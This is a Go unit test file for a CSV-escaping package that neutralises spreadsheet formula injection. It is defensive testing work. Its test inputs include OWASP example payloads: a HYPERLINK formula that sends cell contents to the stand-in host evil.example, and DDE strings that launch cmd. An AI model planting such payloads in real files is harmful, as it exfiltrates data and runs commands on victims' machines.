package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		// The OWASP CSV-injection examples and the probes.
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"=1", "'=1"},
		{"@1", "'@1"},
		{"-", "'-"},
		{"-2+3", "'-2+3"},
		{"+1+1", "'+1+1"},
		{"\t1", "'\t1"},
		{"\r-1", "'\r-1"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+", "'+"},
		// Numbers and ordinary text are left alone.
		{"-12.5", "-12.5"},
		{"+33612345678", "+33612345678"},
		// +1 is a plain number to a spreadsheet, not a formula.
		{"+1", "+1"},
		{"-1e-3", "-1e-3"},
		{"42", "42"},
		{"Benjamin", "Benjamin"},
		{"jean-luc@example.com", "jean-luc@example.com"},
		{" =1+1", " =1+1"},
		{"", ""},
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"key", "=1+1", "-3"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Fatal("the caller's record was changed")
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(got) != 1 || got[0][1] != "'=1+1" || got[0][2] != "-3" {
		t.Fatalf("%q %v", got, err)
	}
}
